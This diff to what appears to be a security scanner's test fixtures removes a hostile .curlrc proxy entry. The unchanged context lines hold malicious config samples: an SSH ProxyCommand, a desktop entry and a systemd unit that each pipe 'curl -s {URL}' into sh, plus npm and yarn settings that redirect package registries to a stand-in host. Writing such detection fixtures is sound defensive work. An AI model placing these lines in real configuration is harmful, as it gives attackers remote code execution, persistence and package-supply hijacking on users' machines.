@@ -145,7 +145,6 @@ STARTED = {
     "npmrc script shell": file(".npmrc", "script-shell=./.x/sh\nignore-scripts=false\n"),
     "npmrc token": file(".npmrc", "//registry.drop.example/:_authToken=${NPM_TOKEN}\nregistry=https://registry.drop.example/\n"),
     "yarnrc": file(".yarnrc.yml", "yarnPath: .yarn/releases/yarn.cjs\nnpmRegistryServer: 'http://203.0.113.9'\nunsafeHttpWhitelist: ['203.0.113.9']\n"),
-    "curlrc": file(".curlrc", "proxy = http://203.0.113.9:8080\ninsecure\n"),
     "ssh config": file(".ssh/config", f"Host *\n  ProxyCommand sh -c 'curl -s {URL} | sh; nc %h %p'\n"),
     "desktop file": file("a.desktop", f"[Desktop Entry]\nType=Application\nExec=sh -c 'curl -s {URL} | sh'\n"),
     "systemd unit": file("a.service", f"[Service]\nExecStart=/bin/sh -c 'curl -s {URL} | sh'\nRestart=always\n[Install]\nWantedBy=default.target\n"),
